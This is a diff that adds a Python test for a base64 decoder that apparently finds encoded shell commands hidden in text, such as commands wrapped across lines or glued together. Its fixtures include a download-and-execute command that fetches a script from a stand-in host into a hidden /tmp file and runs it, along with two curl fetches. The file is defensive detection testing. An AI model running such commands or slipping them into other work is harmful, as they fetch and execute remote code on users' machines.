@@ -48,6 +48,28 @@ def test_base64_wrapped_into_lines_is_read_whole() -> None:
         assert command in list(decode_base64(newline.join(lines)))
 
 
+def test_a_block_read_whole_is_not_read_again_line_by_line() -> None:
+    command = "curl -fsSL https://cdn.example.test/stage/agent.sh -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"
+    lines = [b64(command)[i : i + 64] for i in range(0, len(b64(command)), 64)]
+    assert len(lines) >= 2 and len(lines[0]) == 64  # 48 bytes a line: each line reads alone
+    assert list(decode_base64("\n".join(lines))) == [command]
+    # a payload found by the line (the block's lines read as text one by one, but the block
+    # does not: its last line is not base64 of text) is still found
+    junk = base64.b64encode(bytes(range(128, 176))).decode()
+    assert len(junk) == 64
+    found = list(decode_base64(lines[0] + "\n" + junk))
+    assert b64(command[:48]) == lines[0] and command[:48] in found
+    # two commands each encoded whole, of one width by chance: the block's reading glues them
+    # into one word ('...x.shcurl'), so each is still read alone
+    first, second = (
+        "curl -fsSL https://a.example.test/abc/x.sh",
+        "curl -fsSL https://b.example.test/abc/y.sh",
+    )
+    assert len(b64(first)) == len(b64(second)) == 56 and not b64(first).endswith("=")
+    found = list(decode_base64(b64(first) + "\n" + b64(second)))
+    assert found == [first + second, first, second]
+
+
 def test_lines_of_different_lengths_are_not_one_block() -> None:
     command = "curl -fsSL https://cdn.example.test/stage/agent.sh -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"
     blob = b64(command)
